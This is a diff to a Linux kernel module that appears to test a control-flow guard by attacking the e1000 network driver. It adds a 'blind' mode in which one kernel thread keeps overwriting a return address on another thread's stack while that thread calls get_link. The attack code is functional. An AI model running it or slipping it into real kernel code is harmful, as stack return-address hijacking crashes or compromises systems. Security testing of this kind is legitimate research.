@@ -12,6 +12,8 @@
  *	entry, inner	where e1000_get_ethtool_stats and e1000_update_stats are
  *	gates		where its gates are (.text.guard): the re-entry gate's address on the stack says that a call has left the module, or had
  *	rounds		how often to ask; it ends at the first time that nothing is answered, and when the driver has been steered often enough
+ *	blind		instead, asks for the link, which takes no lock (entry and inner are e1000_get_link and e1000_has_link), writes as soon as the return address is
+ *			there, and goes on when nothing is answered: is it sooner than the first instruction that looks?
  *	results		reading it runs the attack: "rounds steered unanswered writes"
  *	stack		instead, with the per-CPU address of hardirq_stack_ptr: rewrites every return address into [text, text + size), to another such, on the two
  *			stacks that CPU 0 receives packets on, its interrupt stack and that of ksoftirqd/0, whatever goes on there, for rounds milliseconds: "writes"
@@ -31,6 +33,7 @@
 
 static char *device = "eth0";
 static unsigned long entry, inner, gates, stack, text, size, rounds = 1000;
+static bool blind;
 module_param(device, charp, 0644);
 module_param(entry, ulong, 0644);
 module_param(inner, ulong, 0644);
@@ -39,6 +42,7 @@ module_param(stack, ulong, 0644);
 module_param(text, ulong, 0644);
 module_param(size, ulong, 0644);
 module_param(rounds, ulong, 0644);
+module_param(blind, bool, 0644);
 
 #define NUMBERS 64
 #define UNTOUCHED 0x5a5a5a5a5a5a5a5aull
@@ -73,6 +77,10 @@ static bool find_returns(void)
 		else if (code[at + 5] == 0x0f && code[at + 6] == 0x0b && !wrong)
 			wrong = entry + at + 5;
 	}
+	if (blind) {
+		wrong = right + 3; /* anything else */
+		return right;
+	}
 	/* lea OFFSET(%rdi), %reg: the first is the lock, in the driver's data of the device */
 	code = (const unsigned char *)inner;
 	for (lock = NULL, at = 0; inner && at < FUNCTION && !lock; at++) {
@@ -97,12 +105,17 @@ static int ask(void *unused)
 	static struct ethtool_stats request;
 	static u64 numbers[NUMBERS];
 
-	for (asked = 0; asked < rounds && !unanswered && steered < ENOUGH; asked++) {
+	for (asked = 0; asked < rounds && (blind || (!unanswered && steered < ENOUGH)); asked++) {
 		int i;
 
+		clear_stack();
+		if (blind) {
+			unanswered += net->ethtool_ops->get_link(net) == (u32)-1;
+			cond_resched();
+			continue;
+		}
 		for (i = 0; i < NUMBERS; i++)
 			numbers[i] = UNTOUCHED;
-		clear_stack();
 		net->ethtool_ops->get_ethtool_stats(net, &request, numbers);
 		if (numbers[1] == UNTOUCHED)
 			unanswered++;
@@ -133,6 +146,26 @@ static bool inside(unsigned long *slot, unsigned long *low)
 		if (!READ_ONCE(*lock) || READ_ONCE(*word) != gates + REENTRY || READ_ONCE(*slot) != right)
 			return false;
 	return true;
+}
+
+/* Stays where the return address was found first. */
+static int rewrite_blindly(void *unused)
+{
+	unsigned long *low = task_stack_page(victim), *high = low + THREAD_SIZE / sizeof(*low), *slot = high - 1;
+	unsigned long turn;
+
+	while (!kthread_should_stop() && READ_ONCE(*slot) != right)
+		slot = slot == low ? high - 1 : slot - 1;
+	while (!kthread_should_stop()) {
+		for (turn = 0; turn < 0x10000; turn++) {
+			if (READ_ONCE(*slot) != right)
+				continue;
+			WRITE_ONCE(*slot, wrong);
+			writes++;
+		}
+		cond_resched();
+	}
+	return 0;
 }
 
 static int rewrite(void *unused)
@@ -233,7 +266,7 @@ static int results_get(char *buffer, const struct kernel_param *parameter)
 		return -EINVAL;
 	}
 	victim = start(ask, 0);
-	attacker = IS_ERR(victim) ? victim : start(rewrite, 1);
+	attacker = IS_ERR(victim) ? victim : start(blind ? rewrite_blindly : rewrite, 1);
 	if (!IS_ERR(attacker)) {
 		wake_up_process(attacker);
 		wake_up_process(victim);
